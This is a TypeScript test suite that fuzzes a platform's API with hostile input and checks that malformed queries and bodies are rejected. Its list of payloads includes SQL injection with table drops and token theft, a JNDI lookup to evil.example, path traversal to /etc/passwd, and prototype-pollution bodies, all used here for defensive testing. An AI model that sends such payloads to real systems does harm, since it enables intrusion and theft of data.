import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import type { Call } from '#contract/call.ts';
import { calls } from '#contract/calls.ts';

import { createTestApp, type TestApp } from './fixture/app.ts';
import { registerPlayer, visitor } from './fixture/identity.ts';
import { staffWith } from './fixture/staff.ts';

let app: TestApp;
let headers: Record<string, string>;
/** What agents alone are told is refused to others whatever they ask. */
let agentHeaders: Record<string, string>;
/** Of somebody who may do everything at the console. */
let staffHeaders: Record<string, string>;
beforeAll(async () => {
  app = await createTestApp({ config: { requestsPerMinute: 0 } });
  headers = await headersOf('masamang_loob');
  agentHeaders = await headersOf('masamang_ahente');
  await app.db.pool.query("update identity_members set customer_type = 1 where user_name = 'masamang_ahente'");
  staffHeaders = { host: app.merchant.mainDomain, cookie: cookieOf(await staffWith(app)) };
});
afterAll(async () => app.close());

async function headersOf(name: string) {
  const browser = visitor(app);
  await registerPlayer(browser, name);
  return { host: app.merchant.mainDomain, authorization: `Bearer ${browser.token()}`, cookie: cookieOf(browser) };
}

const cookieOf = ({ cookies }: { cookies: ReadonlyMap<string, string> }) =>
  [...cookies].map(([name, value]) => `${name}=${value}`).join('; ');

// logging out would leave the rest without a session
const all = (Object.entries(calls) as [string, Call][]).filter(([key]) => !/DELETE \/wps\/(?:staff\/)?session/.test(key));
function headersFor(key: string) {
  const call = all.find(([name]) => name === key)?.[1];
  if (call?.auth === 'staff') return staffHeaders;
  return call?.agents ? agentHeaders : headers;
}
const withQuery = all.filter(([, { query }]) => query);
const withBody = all.filter(([, { body, bodyEncoding }]) => body && bodyEncoding !== 'form' && bodyEncoding !== 'picture');

const paged = withQuery.flatMap(([key, { query }]) =>
  Object.keys(query?.shape ?? {})
    .filter((name) => /^(?:pageNo|pageSize|page|size|count)$/.test(name))
    .map((name) => [key, name] as const),
);

const pathOf = (key: string) => (key.split(' ')[1] ?? '').replace(/:\w+/g, '00000000-0000-4000-8000-000000000000');

async function ask(key: string, { query = '', body }: { query?: string; body?: string | undefined } = {}) {
  const method = key.split(' ')[0] ?? 'GET';
  const isRead = method === 'GET';
  const response = await app.request(`${pathOf(key)}${query}`, {
    method,
    headers: { ...headersFor(key), ...(isRead ? {} : { 'content-type': 'application/json', encryption: 'jwe' }) },
    ...(isRead ? {} : { body: body ?? '{}' }),
  });
  const answer = (await response.json()) as { success: boolean; errorCode?: string; value?: { fields?: Record<string, string> } };
  return { status: response.status, code: answer.errorCode, fields: answer.value?.fields };
}

const hostile = [
  "' or '1'='1",
  "'; drop table identity_members; --",
  '1 union select token_hash from identity_sessions',
  '{"$gt":""}',
  '{"$where":"sleep(1000)"}',
  '*)(uid=*))(|(uid=*',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%25%30%30',
  '\u202e\u200b\ufeff',
  '９９',
  '-1',
  '1e309',
  'NaN',
  'x'.repeat(5000),
];

describe('every call with a query', () => {
  test.each(withQuery)(
    '%s takes hostile text for no more than text: nothing breaks, nothing is dropped (fault 49)',
    async (key, { query }) => {
      const fields = Object.keys(query?.shape ?? {});
      for (const field of fields)
        for (const value of hostile) {
          const { status } = await ask(key, { query: `?${new URLSearchParams({ [field]: value }).toString()}` });
          expect(status, `${field}=${value.slice(0, 40)}`).toBeLessThan(500);
        }
      const { rows } = await app.db.pool.query("select 1 from identity_members where user_name = 'masamang_loob'");
      expect(rows).toHaveLength(1);
    },
  );

  test.each(withQuery)('%s refuses what is no plain parameter with 400 (fault 49)', async (key, { query }) => {
    const [field = 'x'] = Object.keys(query?.shape ?? {}).filter((name) => !key.includes(`:${name}`));
    const crooked = [
      `?${field}=a&${field}=b`,
      `?${field}=a%00b`,
      '?__proto__=x',
      '?constructor=x',
      '?prototype=x',
      `?${'k'.repeat(300)}%00=1`,
    ];
    for (const bad of crooked)
      expect(await ask(key, { query: bad }), bad.slice(0, 40)).toMatchObject({ status: 400, code: 'request.invalid' });
  });
});

describe('every list that comes in pages', () => {
  test('is found', () => expect(paged.length).toBeGreaterThan(10));

  test.each(paged)('%s gives no page beyond its limit, before the first or half of one: %s (fault 46)', async (key, name) => {
    // a page of nothing is what the counters of a team are asked for with (API-048)
    const none = key === 'GET /wps/agent/team/kpi' ? [] : ['0'];
    for (const value of ['1e9', '1000000000', '9999999999999999999999', ...none, '-1', '1.5']) {
      const { status, fields } = await ask(key, { query: `?${name}=${value}` });
      expect([status, fields?.[name]], value).toEqual([400, 'request.invalid']);
    }
  });
});

describe('every call with a body', () => {
  const crooked = [
    ['__proto__', '{"__proto__":{"isAdmin":true}}'],
    ['constructor', '{"constructor":{"prototype":{"isAdmin":true}}}'],
    ['__proto__ deep inside', '{"data":{"a":[{"__proto__":{"isAdmin":true}}]}}'],
    ['10,000 levels', `{"data":${'['.repeat(10_000)}${']'.repeat(10_000)}}`],
    ['a huge name', `{"${'k'.repeat(50_000)}":1}`],
    ['an array', '[]'],
    ['a number', '7'],
    ['null', 'null'],
    ['half of it', '{"data":'],
    ['a NUL', '{"data":"a\\u0000b"}'],
    ['arrays for every value', '{"data":["a"],"username":["a"],"token":["a"],"announcementId":["a"],"amount":["1"]}'],
  ] as const;

  test.each(withBody)('%s refuses it crooked with 400, and no object is changed by it (fault 49)', async (key) => {
    for (const [what, body] of crooked) {
      const { status, code } = await ask(key, { body });
      expect(status, `${what}: ${String(code)}`).toBe(400);
    }
    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined();
  });
});
